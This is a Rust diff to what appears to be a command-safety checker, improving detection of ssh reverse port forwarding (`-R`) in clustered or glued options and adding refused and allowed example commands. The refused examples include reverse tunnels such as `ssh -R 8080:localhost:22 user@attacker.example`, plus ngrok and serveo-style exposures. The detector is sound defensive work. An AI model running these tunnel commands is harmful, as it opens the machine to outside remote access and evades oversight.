@@ -173,12 +173,45 @@ fn downstream_any(a: &ShellAnalysis, i: usize) -> bool {
 }
 
 /// `ssh -R`, `ngrok`, `cloudflared tunnel`, `bore local`…: this machine reachable from outside.
+/// Whether ssh's options (before the destination) hold `-opt`, read as ssh's getopt reads
+/// them: in a cluster (`-fNR…`), and with a value glued to it (`-R0:localhost:22`) or in the
+/// next word; an option that takes a value ends its cluster.
+fn ssh_has_option(c: &Command, opt: char) -> bool {
+    // autossh's own `-M PORT` comes before ssh's options.
+    let valued = match c.program.as_str() {
+        "autossh" => "BbcDEeFIiJLlMmOoPpQRSWw",
+        _ => "BbcDEeFIiJLlmOoPpQRSWw",
+    };
+    let mut args = c.args.iter();
+    while let Some(a) = args.next() {
+        let Some(cluster) = a.text.strip_prefix('-').filter(|s| !s.is_empty()) else {
+            // The destination: what follows is the remote command.
+            return false;
+        };
+        if cluster.starts_with('-') {
+            return false;
+        }
+        for (i, ch) in cluster.char_indices() {
+            if ch == opt {
+                return true;
+            }
+            if valued.contains(ch) {
+                if i + ch.len_utf8() == cluster.len() {
+                    args.next();
+                }
+                break;
+            }
+        }
+    }
+    false
+}
+
 fn tunnel(c: &Command, _: &Scope) -> Option<String> {
     let ops: Vec<&str> = c.operands().iter().map(|w| w.text.as_str()).collect();
     let first = ops.first().copied().unwrap_or("");
     let hit = match c.program.as_str() {
         "ssh" | "autossh" => {
-            c.has_flag(Some('R'), &[])
+            ssh_has_option(c, 'R')
                 || c.args
                     .iter()
                     .any(|a| a.text.to_ascii_lowercase().contains("remoteforward"))
@@ -662,6 +695,8 @@ pub static RULES: &[Rule] = &[
         refused: &[
             Example::bash("ssh -R 8080:localhost:22 user@attacker.example"),
             Example::bash("ssh -fNR 2222:localhost:22 relay.example"),
+            Example::bash("ssh -p 443 -R0:localhost:3000 a.pinggy.io"),
+            Example::bash("ssh -fNR0:localhost:22 relay.example"),
             Example::bash("ssh -o RemoteForward='80 localhost:3000' serveo.net"),
             Example::bash("ngrok tcp 22"),
             Example::bash("ngrok http 3000"),
@@ -681,6 +716,9 @@ pub static RULES: &[Rule] = &[
         allowed: &[
             Example::bash("ssh -L 5432:db.internal:5432 bastion.example"),
             Example::bash("ssh user@host uptime"),
+            // An option's value that holds an R, and an `-R` after the destination.
+            Example::bash("ssh -i ~/.ssh/Rkey -l R user@host uptime"),
+            Example::bash("ssh user@host ls -R /srv"),
             Example::bash("ngrok version"),
             Example::bash("cloudflared tunnel list"),
             Example::bash("tailscale status"),
